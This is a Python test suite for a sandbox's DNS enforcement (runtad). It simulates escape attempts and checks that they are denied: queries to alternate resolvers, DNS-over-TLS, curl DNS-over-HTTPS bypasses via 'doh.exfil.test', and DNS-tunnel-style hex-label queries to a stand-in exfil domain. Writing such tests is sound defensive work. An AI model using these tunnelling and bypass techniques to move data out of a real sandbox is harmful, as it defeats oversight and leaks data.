"""DNS from an enforced sandbox that tries to reach another resolver or smuggle data out.

Whatever server a query names, runtad's DNS listener answers it by the sandbox's policy.
Denied names get NXDOMAIN and never reach the lab's DNS server, whose query log is the
proof. DNS over TLS (TCP 853) is rejected by address; DNS over HTTPS is TLS on 443,
so the gateway resets it unless its server name is allowed.
"""

from __future__ import annotations

import re
import secrets
from pathlib import Path

import pytest

from tests.e2e.runtad_process import RuntadProcess, SandboxHandle
from tests.hostile.attempts import (
    CALLERS,
    EXEC_SECONDS,
    FAST_SECONDS,
    denial_at,
    enforced_sandbox,
    exec_in,
    lab_queries,
    probe,
    wait_for_event,
)
from tests.lab.topology import DNS_V4, DNS_V6

pytestmark = pytest.mark.root

# dig gives up after this many seconds, so a query that gets no answer shows as None.
DIG_TIMEOUT = 2
# An answer from runtad's listener takes milliseconds; the bound leaves room for the CLI.
ANSWER_SECONDS = 1.5
OTHER_SERVERS = ["192.0.2.99", "2001:db8::99", DNS_V4, DNS_V6]
STATUS = re.compile(r"status: (\w+)")


def dig_status(
    runtad: RuntadProcess, sandbox: SandboxHandle, caller: str, *args: str
) -> tuple[str | None, float]:
    """Run dig in the sandbox; return the reply's status (None without a reply) and seconds."""
    argv = ["dig", f"+time={DIG_TIMEOUT}", "+tries=1", *args]
    result = exec_in(runtad, sandbox.name, caller, argv)
    found = STATUS.search(result.stdout)
    return (found[1] if found else None), result.seconds


def fresh_name(suffix: str = "exfil.test") -> str:
    return f"x{secrets.token_hex(4)}.{suffix}"


def dns_denial_of(name: str):  # type: ignore[no-untyped-def]
    return lambda event: event["reason"] == "dns_name_not_allowed" and event["host"] == name


def add_hosts_entry(sandbox: SandboxHandle, address: str, name: str) -> None:
    """Add a line to the sandbox's hosts file, which `ip netns exec` bind-mounts on /etc/hosts."""
    with open(Path("/etc/netns") / sandbox.netns / "hosts", "a") as hosts:
        hosts.write(f"{address}\t{name}\n")


@pytest.mark.parametrize("caller", CALLERS)
def test_other_servers_answer_by_policy(runtad: RuntadProcess, caller: str) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org"])
    cases = [(server, transport) for server in OTHER_SERVERS for transport in ("+notcp", "+tcp")]
    names = {case: fresh_name() for case in cases}

    answers = {
        case: dig_status(runtad, sandbox, caller, case[1], f"@{case[0]}", names[case], "A")
        for case in cases
    }

    assert {case: status for case, (status, _) in answers.items()} == dict.fromkeys(
        cases, "NXDOMAIN"
    )
    assert max(seconds for _, seconds in answers.values()) < ANSWER_SECONDS
    seen = set(lab_queries(runtad))
    assert [name for name in names.values() if name in seen] == []
    for case, name in names.items():
        event = wait_for_event(runtad, sandbox.name, dns_denial_of(name))
        assert event is not None, f"no deny event for {name} sent to {case}"


def test_other_server_allowed_name_answered(runtad: RuntadProcess) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org"])

    result = exec_in(runtad, sandbox.name, "nobody", ["dig", "+short", "@192.0.2.99", "pypi.org"])

    assert result.stdout.split() == ["192.0.2.10"]


def test_other_dns_port_rejected(runtad: RuntadProcess) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org"])

    results = {
        server: probe(runtad, sandbox.name, "nobody", "udp", server, "5353", "query")
        for server in (DNS_V4, DNS_V6)
    }

    assert {server: result.outcome for server, result in results.items()} == {
        DNS_V4: "EPERM",
        DNS_V6: "EPERM",
    }
    assert max(result.seconds for result in results.values()) < FAST_SECONDS
    for server in results:
        assert wait_for_event(runtad, sandbox.name, denial_at(server, 5353)) is not None


@pytest.mark.parametrize("caller", CALLERS)
def test_dns_over_tls_rejected(runtad: RuntadProcess, caller: str) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org"])

    results = {
        server: probe(runtad, sandbox.name, caller, "tcp", server, "853")
        for server in (DNS_V4, DNS_V6)
    }

    assert {server: result.outcome for server, result in results.items()} == {
        DNS_V4: "ECONNREFUSED",
        DNS_V6: "ECONNREFUSED",
    }
    assert max(result.seconds for result in results.values()) < FAST_SECONDS
    for server in results:
        event = wait_for_event(runtad, sandbox.name, denial_at(server, 853))
        assert event is not None, f"no deny event for {server} port 853"
        assert event["reason"] == "direct_ip_not_allowed"


def test_doh_by_address_reset(runtad: RuntadProcess) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org"])
    argv = ["curl", "-sS", "--max-time", "5", "--doh-url", f"https://{DNS_V4}/dns-query",
            "https://example.com/"]  # fmt: skip

    result = exec_in(runtad, sandbox.name, "nobody", argv)

    assert result.returncode != 0
    assert result.seconds < EXEC_SECONDS / 2
    event = wait_for_event(runtad, sandbox.name, denial_at(DNS_V4, 443))
    assert event is not None
    assert event["reason"] == "sni_missing"


def test_doh_by_name_reset(runtad: RuntadProcess) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org"])
    add_hosts_entry(sandbox, DNS_V4, "doh.exfil.test")
    argv = ["curl", "-sS", "--max-time", "5", "--doh-url", "https://doh.exfil.test/dns-query",
            "https://example.com/"]  # fmt: skip

    result = exec_in(runtad, sandbox.name, "nobody", argv)

    assert result.returncode != 0
    assert result.seconds < EXEC_SECONDS / 2
    event = wait_for_event(runtad, sandbox.name, denial_at(DNS_V4, 443))
    assert event is not None
    assert event["reason"] == "sni_not_allowed"
    assert event["host"] == "doh.exfil.test"


def test_long_labels_never_reach_upstream(runtad: RuntadProcess) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org", "*.pythonhosted.org"])
    # Three 63-octet labels of "data" per query, as DNS tunnels send them.
    names = [
        ".".join(secrets.token_hex(32)[:63] for _ in range(3)) + ".exfil.test" for _ in range(4)
    ]
    transports = ["+notcp", "+tcp", "+notcp", "+tcp"]

    statuses = [
        dig_status(runtad, sandbox, "nobody", transport, f"@{DNS_V4}", name, "TXT")[0]
        for name, transport in zip(names, transports)
    ]

    assert statuses == ["NXDOMAIN"] * len(names)
    seen = set(lab_queries(runtad))
    assert [name for name in names if name in seen] == []
    assert wait_for_event(runtad, sandbox.name, dns_denial_of(names[-1])) is not None


def test_other_types_of_denied_names_never_reach_upstream(runtad: RuntadProcess) -> None:
    sandbox = enforced_sandbox(runtad, ["pypi.org", "*.pythonhosted.org"])
    # Look-alikes of the allowed entries as well as an unrelated name, in five types.
    cases = [
        (rdtype, name)
        for rdtype in ("TXT", "NULL", "ANY", "CNAME", "MX")
        for name in (fresh_name(), f"pypi.org.{fresh_name()}", fresh_name("pythonhosted.org.x"))
    ]

    statuses = {
        case: dig_status(runtad, sandbox, "nobody", f"@{DNS_V6}", case[1], case[0])[0]
        for case in cases
    }

    assert statuses == dict.fromkeys(cases, "NXDOMAIN")
    names = [name for _, name in cases]
    seen = set(lab_queries(runtad))
    assert [name for name in names if name in seen] == []
